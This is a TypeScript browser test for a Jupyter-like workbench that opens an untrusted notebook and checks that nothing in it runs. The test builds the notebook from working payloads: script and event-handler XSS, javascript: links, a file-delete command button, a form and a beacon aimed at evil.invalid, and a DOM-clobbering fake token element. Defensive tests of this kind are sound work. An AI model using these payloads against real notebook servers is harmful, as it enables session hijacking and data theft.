import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { launchBrowser } from './support/browser.ts'
import { openLab, startWorkbench, waitForIdle, type Workbench } from './support/workbench.ts'

/** A notebook from elsewhere, opened and looked at but not run, must not act for the person who opened it. */
let bench: Workbench
let browser: Browser
let page: Page
const foreign: string[] = []
const dialogs: string[] = []

const ATTACK = 'globalThis.pwned=1'
const HTML = [
  `<script>${ATTACK}</script>`,
  `<img src="http://evil.invalid/beacon.png" onerror="${ATTACK}">`,
  `<svg onload="${ATTACK}"><script>${ATTACK}</script></svg>`,
  `<iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>`,
  `<button data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">click me</button>`,
  `<form action="http://evil.invalid/"><input name="token"><button>send</button></form>`,
  `<a id="out" href="https://example.org/">out</a><a href="javascript:${ATTACK}">in</a>`,
  `<p id="jupyter-config-data">{"token":"stolen"}</p>`,
].join('\n')
const output = (data: object) => ({ output_type: 'display_data', metadata: {}, data })
const NOTEBOOK = {
  nbformat: 4,
  nbformat_minor: 5,
  metadata: {
    kernelspec: { name: 'firstlight', display_name: `<img src=x onerror=${ATTACK}>`, language: 'typescript' },
  },
  cells: [
    {
      cell_type: 'markdown',
      id: 'm',
      metadata: {},
      source: `# Hello\n\n${HTML}\n\n[link](javascript:${ATTACK}) [far](https://example.org/)`,
    },
    {
      cell_type: 'code',
      id: 'c',
      execution_count: 1,
      metadata: { trusted: true },
      source: '1',
      outputs: [
        output({ 'text/html': HTML }),
        output({ 'application/javascript': ATTACK }),
        output({
          'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg"><script>${ATTACK}</script></svg>`,
        }),
        output({ 'text/markdown': HTML }),
        output({ 'text/latex': `$\\href{javascript:${ATTACK}}{x}$` }),
      ],
    },
    {
      cell_type: 'code',
      id: 'd',
      execution_count: 2,
      metadata: { trusted: true },
      source: '2',
      outputs: [output({ 'text/html': HTML })],
    },
  ],
}

beforeAll(async () => {
  bench = await startWorkbench()
  writeFileSync(join(bench.root, 'from <b>elsewhere.ipynb'), JSON.stringify(NOTEBOOK))
  browser = await launchBrowser()
  page = await browser.newPage({ viewport: { width: 1200, height: 900 } })
  const isForeign = (url: string) => !/^(http:\/\/127\.0\.0\.1|data:|blob:)/.test(url)
  // What the page's policy has stopped never left; everything else did, answered or not.
  page.on('requestfailed', (request) => {
    if (isForeign(request.url()) && !/csp/i.test(request.failure()?.errorText ?? ''))
      foreign.push(request.url())
  })
  page.on('response', (answer) => {
    if (isForeign(answer.url())) foreign.push(answer.url())
  })
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  await openLab(page, bench.url)
})
afterAll(async () => {
  await browser?.close()
  await bench?.close()
})

test('neither scripts nor links, forms, commands or beacons of an untrusted notebook work', async () => {
  const path = 'from <b>elsewhere.ipynb'
  await page.evaluate(
    (name) => void lab.commands.execute('docmanager:open', { path: name, factory: 'Notebook' }),
    path,
  )
  await page.waitForSelector('.jp-NotebookPanel .jp-MarkdownOutput h1')
  await page.waitForSelector('.jp-OutputArea-output')
  // Markup that slipped through would have loaded or run by the time a later one of its kind has been drawn.
  await page.locator('.jp-RenderedHTMLCommon a', { hasText: 'out' }).first().waitFor()
  const found = await page.evaluate(() => {
    const drawn = document.querySelector('.jp-Notebook')!
    const count = (selector: string) => drawn.querySelectorAll(selector).length
    return {
      pwned: 'pwned' in globalThis,
      scripts: count('script'),
      frames: count('iframe'),
      forms: count('form[action], input:not([disabled])'),
      commands: count('[data-commandlinker-command]'),
      handlers: [...drawn.querySelectorAll('*')].filter((node) =>
        [...node.attributes].some(({ name }) => name.startsWith('on')),
      ).length,
      javascript: count('a[href^="javascript"]'),
      clobbered: document.querySelectorAll('[id="jupyter-config-data"]').length,
      openers: [...drawn.querySelectorAll<HTMLAnchorElement>('a[href^="https:"]')].filter(
        ({ rel, target }) => target === '_blank' && !rel.includes('noopener'),
      ).length,
      title: document.title,
    }
  })
  expect(found).toMatchObject({
    pwned: false,
    scripts: 0,
    frames: 0,
    forms: 0,
    commands: 0,
    handlers: 0,
    javascript: 0,
    clobbered: 1,
    openers: 0,
  })
  await page
    .locator('.jp-RenderedHTMLCommon a', { hasText: 'in' })
    .first()
    .click({ trial: false, timeout: 5000 })
    .catch(() => {})
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
  expect(dialogs).toEqual([])
  expect(foreign).toEqual([])
})

test('a cell that is run is trusted alone', async () => {
  await page.evaluate(() => {
    const panel = lab.shell.currentWidget as unknown as { content: { activeCellIndex: number } }
    panel.content.activeCellIndex = 1
  })
  await waitForIdle(page)
  await page.evaluate(() => void lab.commands.execute('notebook:run-cell'))
  const trusted = () =>
    page.evaluate(() => {
      const { content } = lab.shell.currentWidget as unknown as {
        content: { widgets: { model: { trusted: boolean } }[] }
      }
      return content.widgets.map(({ model }) => model.trusted)
    })
  await expect.poll(trusted).toEqual([false, true, false])
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false)
  expect(await page.locator('.jp-Notebook script').count()).toBe(0)
})
